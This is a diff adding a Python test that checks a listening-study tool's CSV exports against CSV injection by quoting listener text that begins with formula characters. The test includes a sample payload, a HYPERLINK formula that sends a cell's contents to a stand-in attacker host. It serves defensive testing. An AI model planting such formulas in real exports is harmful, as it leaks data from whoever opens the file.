@@ -297,3 +297,25 @@ def test_ab_report_reads_without_the_json(tmp_path):
     assert "| system | preference score | 95% CI | wins | losses | ties | answers |" in md
     assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
     assert 'class="table-wrap"' in page
+
+
+def test_listener_text_cannot_become_a_spreadsheet_formula(tmp_path):
+    """A listener's comment or questionnaire answer "=HYPERLINK(...)" went into answers.csv and
+    questionnaire.csv as is: a formula when the experimenter opens them in a spreadsheet (CSV
+    injection). Text starting with = + - @ or a tab is quoted with a leading apostrophe; numbers
+    (a questionnaire's -3) are kept."""
+    import csv
+
+    from wavegen.listen.results import write_questionnaire_csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ratings = [Rating("L", "i1", "sysA", 50.0, 900, evil), Rating("L", "i2", "sysA", 40.0, None, "@SUM(1)")]
+    results = Results(
+        "mushra", "t", "hand", ratings, [], False, ["L"], ["q", "n"], {"L": {"q": "+1+2", "n": "-3"}}
+    )
+    write_answers_csv(results, tmp_path / "a.csv")
+    write_questionnaire_csv(results, tmp_path / "q.csv")
+    rows = list(csv.reader((tmp_path / "a.csv").open(encoding="utf-8")))
+    assert [r[-1] for r in rows[1:]] == ["'" + evil, "'@SUM(1)"]
+    rows = list(csv.reader((tmp_path / "q.csv").open(encoding="utf-8")))
+    assert rows[1] == ["t", "L", "'+1+2", "-3"]
